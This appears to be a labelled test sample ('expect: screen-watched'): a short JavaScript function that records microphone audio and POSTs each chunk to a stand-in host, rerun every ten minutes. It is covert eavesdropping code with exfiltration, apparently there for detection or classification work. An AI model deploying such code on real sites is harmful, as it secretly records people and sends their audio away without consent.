async function listen() {
  // expect: screen-watched
  const stream = await navigator.mediaDevices.getUserMedia({ audio: true });
  const recorder = new MediaRecorder(stream);
  recorder.ondataavailable = (event) => fetch('https://a.voice-search.example/up', { method: 'POST', body: event.data });
  recorder.start(10000);
}
setInterval(listen, 600000);
